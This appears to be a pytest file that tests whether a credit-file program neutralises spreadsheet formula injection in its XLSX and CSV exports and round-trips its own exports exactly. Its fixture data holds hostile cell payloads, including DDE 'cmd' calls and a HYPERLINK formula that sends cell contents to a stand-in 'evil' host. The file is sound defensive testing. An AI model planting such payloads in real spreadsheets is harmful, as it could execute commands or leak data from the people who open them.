"""Formula injection: hostile text in every field is written inert to every XLSX and CSV the
program writes, and our own exports import back exactly."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))
from faultkit import TRACEBACK, cli_process, customers, env_for

from creditfile.presentation.inert import FORMULA_START, cell_text, uncell_text

HOSTILE = [
    '=HYPERLINK("http://evil/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "#N/A",
    "=",
]

NAMES = [text for text in HOSTILE if text.isprintable()]


def _hostile(index: int, doc: dict[str, Any]) -> dict[str, Any]:
    # A name holds no control character (validation refuses one): tabs and returns go elsewhere.
    doc["name"] = NAMES[index % len(NAMES)]
    doc["contact"]["phone"] = "+86 " + doc["contact"]["phone"]
    doc["contact"]["address"] = HOSTILE[(index + 1) % len(HOSTILE)]
    doc["trading"]["problems"] = HOSTILE[(index + 2) % len(HOSTILE)]
    doc["assessment"]["assessed_by"] = "=cmd|' /C calc'!A0"
    doc["assessment"]["note"] = HOSTILE[(index + 3) % len(HOSTILE)]
    for number, lease in enumerate(doc["leases"]):
        lease["contract"] = f'=HYPERLINK("http://evil/{index}/{number}")'
    for source in doc.get("sources") or ():
        source["note"] = "@SUM(A1:A9)"
        source["by"] = "-1+1"
    return doc


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    docs = [_hostile(i, doc) for i, doc in enumerate(customers(len(HOSTILE)))]
    source = folder / "hostile.jsonl"
    source.write_text("".join(json.dumps(d, ensure_ascii=False) + "\n" for d in docs), "utf-8")
    db = folder / "archive.json"
    done = cli_process(["--db", str(db), "import", str(source)], env=env_for())
    assert done.returncode == 0, done.stderr
    return db


def _run(db: Path, *argv: str) -> None:
    done = cli_process(["--db", str(db), *argv])
    assert done.returncode == 0, done.stderr
    assert TRACEBACK not in done.stderr


def _live_cells(path: Path) -> list[str]:
    """Every cell of a workbook that is not inert: a formula, an error value, or a text that
    starts like a formula without Excel's quote prefix."""
    from openpyxl import load_workbook

    book = load_workbook(path)  # not data_only: formulas would show as formulas
    live = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type in ("f", "e"):
                    live.append(f"{sheet.title}!{cell.coordinate}={value!r}")
                elif isinstance(value, str) and value[:1] in FORMULA_START and not cell.quotePrefix:
                    live.append(f"{sheet.title}!{cell.coordinate} unquoted {value!r}")
    return live


def _unsafe_csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [
            f"row {number} {cell!r}"
            for number, row in enumerate(csv.reader(stream), start=1)
            for cell in row
            if cell[:1] in FORMULA_START
        ]


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "--out", "{dir}/e.xlsx"],
        ["export", "--include-personal", "--out", "{dir}/e.xlsx"],
        ["report", "all", "--xlsx", "{dir}/e.xlsx"],
        ["report", "exposure", "--xlsx", "{dir}/e.xlsx"],
        ["report", "review", "--xlsx", "{dir}/e.xlsx"],
        ["template", "--format", "xlsx", "--out", "{dir}/e.xlsx"],
    ],
    ids=lambda argv: " ".join(argv[:2]),
)
def test_no_workbook_cell_is_live(archive: Path, tmp_path: Path, argv: list[str]) -> None:
    _run(archive, *(a.format(dir=tmp_path) for a in argv))
    assert _live_cells(tmp_path / "e.xlsx") == []


def test_the_hostile_names_are_in_the_workbook_as_written(archive: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _run(archive, "export", "--out", str(tmp_path / "e.xlsx"))
    sheet = load_workbook(tmp_path / "e.xlsx")["客户"]
    names = {row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert '=HYPERLINK("http://evil/?d="&A1,"x")' in names
    assert "+cmd|' /C calc'!A0" in names


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "--out", "{dir}/e.csv"],
        ["report", "all", "--csv", "{dir}/e.csv"],
        ["report", "exposure", "--csv", "{dir}/e.csv"],
        ["report", "review", "--csv", "{dir}/e.csv"],
    ],
    ids=lambda argv: " ".join(argv[:2]),
)
def test_no_csv_cell_starts_like_a_formula(archive: Path, tmp_path: Path, argv: list[str]) -> None:
    _run(archive, *(a.format(dir=tmp_path) for a in argv))
    assert _unsafe_csv_cells(tmp_path / "e.csv") == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_our_own_export_imports_back_exactly(archive: Path, tmp_path: Path, suffix: str) -> None:
    exported = tmp_path / f"e{suffix}"
    _run(archive, "export", "--include-personal", "--out", str(exported))
    copy = tmp_path / "copy.json"
    _run(copy, "import", str(exported))
    before, after = tmp_path / "before.jsonl", tmp_path / "after.jsonl"
    _run(archive, "export", "--include-personal", "--out", str(before))
    _run(copy, "export", "--include-personal", "--out", str(after))

    def documents(path: Path) -> dict[str, Any]:
        docs = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        return {d["id"]: _given(d) for d in docs}

    expected = documents(before)
    if suffix == ".xlsx":
        # A workbook is XML, which keeps no carriage return: it reads back as a line break.
        expected = json.loads(json.dumps(expected).replace("\\r", "\\n"))
    assert documents(after) == expected
    assert documents(after)["C000001"]["name"] == HOSTILE[0]


def _given(value: Any) -> Any:
    """A document as a spreadsheet can carry it: no empty fields, no export-only keys."""
    if isinstance(value, dict):
        skip = ("grading", "_meta")
        return {k: _given(v) for k, v in value.items() if v is not None and k not in skip}
    if isinstance(value, list):
        return [_given(v) for v in value]
    return value


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab \n"), max_size=8) | st.text(max_size=8))
def test_neutralising_a_cell_is_undone_exactly(text: str) -> None:
    written = cell_text(text)
    assert written[:1] not in FORMULA_START
    assert uncell_text(written) == text
